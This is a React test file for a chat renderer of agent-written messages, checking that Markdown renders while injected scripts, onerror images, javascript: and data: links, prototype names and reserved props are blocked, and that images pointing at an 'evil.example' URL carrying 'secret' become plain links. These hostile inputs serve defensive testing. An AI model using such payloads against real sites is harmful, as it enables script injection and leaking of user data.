import { render, screen } from "@testing-library/react";
import { describe, expect, it } from "vitest";
import { type MessageContent, renderMessageContent } from "../../src/index.ts";

function Stove({ name, status, isLoading }: { name: string; status: string; isLoading: boolean }) {
  return <b>{`${name} ${status} ${isLoading}`}</b>;
}

function Fragile({ amount }: { amount: string }) {
  return <i>{amount.trim()}</i>;
}

function Open({ name: _, status: __, isLoading: ___, ...rest }: Record<string, unknown>) {
  return <i {...rest} />;
}

describe("renderMessageContent", () => {
  const draw = (content: MessageContent) => render(<div>{renderMessageContent(content, { Stove })}</div>).container;
  const stove = (id: string, args: object) => ({
    name: "Stove",
    props: { id, args: { ...args }, status: "done" as const },
  });

  it("renders Markdown: headings, tables, lists, code", () => {
    const box = draw("# Plan\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done\n\n`code` ~~old~~");
    for (const tag of ["h1", "table", "td", "li input", "code", "del"]) expect(box.querySelector(tag)).not.toBeNull();
  });

  it("executes nothing that an agent writes", () => {
    const box = draw(
      "<script>alert(1)</script><img src=x onerror=alert(1)> [run](javascript:alert(1)) [data](data:text/html,x) ![i](javascript:x)",
    );
    expect(box.querySelector("script")).toBeNull();
    expect(box.innerHTML).not.toMatch(/<img[^>]*onerror|href="(javascript|data):|src="javascript:/);
  });

  it("opens links in a new tab without a referrer", () => {
    draw("[the registry](https://example.org/a)");
    const link = screen.getByRole("link", { name: "the registry" });
    expect(link.getAttribute("href")).toBe("https://example.org/a");
    expect(link.getAttribute("target")).toBe("_blank");
    expect(link.getAttribute("rel")).toContain("noopener");
    expect(link.getAttribute("rel")).toContain("noreferrer");
  });

  it("renders components in their places, and nothing for unknown ones", () => {
    const unknown = { name: "Unknown", props: { id: "u", args: {} } };
    const box = draw(["Before", stove("1", { name: "Jiko" }), unknown, "After"]);
    expect(box.textContent).toBe("BeforeJiko done falseAfter");
    expect(draw(stove("2", { name: "Mbaula" })).textContent).toBe("Mbaula done false");
  });

  it("accepts only the app's component names, not inherited ones such as constructor", () => {
    for (const name of ["constructor", "toString", "__proto__", "hasOwnProperty"]) {
      for (const kind of [{}, { isToolCall: true }, { isAgAction: true }])
        expect(draw([{ name, props: { id: name, args: {}, ...kind } }, "After"]).textContent).toBe("After");
    }
  });

  it("keeps the thread when a component throws, and renders it again with other arguments", () => {
    const content = (amount: unknown): MessageContent => [
      "Before",
      { name: "Fragile", props: { id: "f", args: { amount } } },
      "After",
    ];
    const { container, rerender } = render(<div>{renderMessageContent(content(5), { Fragile })}</div>);
    expect(container.textContent).toBe("BeforeAfter");
    rerender(<div>{renderMessageContent(content("5 "), { Fragile })}</div>);
    expect(container.textContent).toBe("Before5After");
  });

  it("passes a component no props that React reserves", () => {
    const args = { ref: "r", key: "k", dangerouslySetInnerHTML: { __html: "<img src=x>" }, title: "t" };
    const box = render(
      <div>{renderMessageContent({ name: "Open", props: { id: "o", args } }, { Open })}</div>,
    ).container;
    expect(box.innerHTML).toBe('<div><i title="t" id="o"></i></div>');
  });

  it("loads no image that an agent names, and shows a link instead", () => {
    const box = draw("![the stove](https://evil.example/?q=secret) ![](https://evil.example/pixel.png)");
    expect(box.querySelector("img")).toBeNull();
    const [named, blank] = screen.getAllByRole("link");
    expect([named?.textContent, named?.getAttribute("href")]).toEqual(["the stove", "https://evil.example/?q=secret"]);
    expect(blank?.textContent).toBe("https://evil.example/pixel.png");
  });

  it("does not let the agent's arguments replace the SDK's props", () => {
    expect(draw(stove("3", { name: "Jiko", status: "paid", isLoading: true })).textContent).toBe("Jiko done false");
  });
});
